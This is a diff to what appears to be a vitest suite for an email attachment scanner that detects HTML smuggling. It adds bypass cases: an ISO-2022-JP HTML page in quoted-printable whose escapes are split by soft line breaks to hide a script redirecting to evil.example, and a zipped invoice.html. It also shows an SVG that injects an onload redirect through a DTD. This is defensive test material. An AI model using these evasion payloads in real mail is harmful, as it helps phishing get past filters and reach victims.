@@ -1,5 +1,6 @@
+import { zipFile } from '@wmflow/core/testing';
 import { describe, expect, it } from 'vitest';
-import { attachedFile, attachmentTests, attackerKit } from './attacker-kit.js';
+import { attachedFile, attachmentTests, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
 import { useLocalStack } from './stack.js';
 
 // Attacker round 6 on the page scan (HTML smuggling), encodings first: each page below ran its script in
@@ -53,6 +54,22 @@ const BYPASSES: Record<string, [Buffer, string]> = {
     'voicemail.svg',
     `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "location='https://evil.example/attlist'">]><svg xmlns="http://www.w3.org/2000/svg"><text y="20">Voicemail</text></svg>`,
     'image/svg+xml',
+  ),
+  // The part walk decodes the transfer encoding first: a soft line break inside the escape splits nothing.
+  'an ISO-2022-JP page in quoted-printable, a soft break inside the doubled escape': [
+    mail(
+      [MIXED],
+      withPart(
+        `Content-Type: text/html; name="invoice.html"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${JIS}<!-=1B(=\r\nB=1B(B- x><scr=1B=\r\n(Bipt>location=3D'https://evil.example/qp'</script>`,
+      ),
+    ),
+    'evil.example/qp',
+  ],
+  'an ISO-2022-JP page inside a zip': attachedFile(
+    'docs.zip',
+    zipFile([
+      { name: 'invoice.html', data: Buffer.from(`${JIS}\x1b$B\n<a title='\x1b(B${SMUGGLE}'>`, 'latin1') },
+    ]),
   ),
   'a page whose <p<!-- is a tag name, not a comment': page(
     'invoice.htm',
